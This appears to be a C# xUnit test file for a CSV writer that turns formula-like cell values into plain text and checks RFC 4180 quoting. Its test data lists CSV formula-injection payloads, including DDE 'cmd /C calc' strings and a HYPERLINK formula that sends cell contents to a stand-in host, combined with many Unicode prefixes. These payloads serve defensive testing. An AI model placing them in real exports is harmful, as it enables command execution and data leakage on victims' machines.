using System.Text;
using Kith.Platform.Web;
using Xunit;

namespace Kith.Tests.Platform.Web;

[Trait("Database", "none")]
public sealed class CsvLineTests
{
    // How a spreadsheet may be brought to take a value for a formula, and what the formula would do.
    private static readonly string[] Starts =
    [
        "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\0=", "\0\0@", " =", "   +", " \t=", "\u00A0=", "\u200B=", "\u2060-", "\uFEFF=", "\v=", "\f@", "\u0085=", "\u202E=", "\u3000=", "\u001F=",
        "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\uFE66", "\uFE62", "\uFE63", "\uFE6B", "\u207C", "\u207A", "\u207B", "\u208C", "\u208A", "\u208B", "\u2212", "\u00A0\uFF1D",
    ];

    private static readonly string[] Rests =
        ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://x.example?\"&A1,\"look\")", "SUM(A1:A9)*cmd|'/c calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "1\r\n=2", "2;=3,=4\"", ""];

    private static readonly string[] Harmless = ["Amy", "a=b", "1-2", "O’Brien", "'quoted'", "e@example.org", "\u20135 to 5", "£5", "#1", "%", "|cmd", " Amy", "\u200BAmy", "12\r\n3", "12\t3", "", "“=1”", "~1", "!A1"];

    [Fact]
    public void No_payload_is_a_formula_at_whichever_place_and_every_value_is_read_as_it_was()
    {
        var payloads = (from start in Starts from rest in Rests select start + rest).ToList();
        Assert.True(payloads.Count >= 200);
        List<string[]> lines = [.. payloads.SelectMany(p => new string[][] { [p], [p, "a", "b"], ["a", p, "b"], ["a", "b", p], [p, p] }), .. Harmless.Select(h => new[] { h, "a", h })];

        var text = Encoding.UTF8.GetString(CsvLine.File(lines));
        Assert.Equal('\uFEFF', text[0]);
        var read = Read(text[1..]);

        var danger = payloads.ToHashSet();
        Assert.Equal(lines.Count, read.Count);
        for (var number = 0; number < lines.Count; number++)
        {
            Assert.Equal(lines[number].Select(v => danger.Contains(v) ? $"'{v.Replace("\0", string.Empty, StringComparison.Ordinal)}" : v), read[number]);
        }

        Assert.Equal(read, Read(string.Concat(lines.Select(l => CsvLine.Of(l)))));
    }

    [Theory]
    [InlineData("a\"b\r\n")]
    [InlineData("\"a\"b\r\n")]
    [InlineData("\"a\r\n")]
    [InlineData("a\nb\r\n")]
    [InlineData("a")]
    public void What_is_no_such_file_is_not_read(string text) => Assert.Throws<FormatException>(() => Read(text));

    /// <summary>RFC 4180 to the letter, and nothing of what writes it.</summary>
    private static List<List<string>> Read(string text)
    {
        List<List<string>> lines = [];
        List<string> line = [];
        var at = 0;
        while (at < text.Length)
        {
            var value = new StringBuilder();
            if (text[at] == '"')
            {
                at++;
                while (true)
                {
                    if (at >= text.Length)
                    {
                        throw new FormatException("A quote is not closed");
                    }

                    if (text[at] != '"')
                    {
                        value.Append(text[at++]);
                    }
                    else if (at + 1 < text.Length && text[at + 1] == '"')
                    {
                        value.Append('"');
                        at += 2;
                    }
                    else
                    {
                        at++;
                        break;
                    }
                }
            }
            else
            {
                while (at < text.Length && text[at] is not (',' or '"' or '\r' or '\n'))
                {
                    value.Append(text[at++]);
                }
            }

            line.Add(value.ToString());
            if (at < text.Length && text[at] == ',')
            {
                at++;
                continue;
            }

            if (at + 1 >= text.Length || text[at..(at + 2)] != "\r\n")
            {
                throw new FormatException($"Neither a comma nor the end of a line at {at}");
            }

            lines.Add(line);
            line = [];
            at += 2;
        }

        return lines;
    }

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData(null, "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a;b", "\"a;b\"")]
    [InlineData("say \"yes\"", "\"say \"\"yes\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+44", "\"'+44\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("  =1", "\"'  =1\"")]
    [InlineData("\0=1", "\"'=1\"")]
    public void A_cell_is_text_whatever_stands_in_it(string? value, string cell) => Assert.Equal($"first,{cell}\r\n", CsvLine.Of("first", value));

    [Fact]
    public void A_file_begins_as_spreadsheets_ask_for() => Assert.Equal("\uFEFFa,b\r\n1,\r\n"u8.ToArray(), CsvLine.File([["a", "b"], ["1", null]]));
}
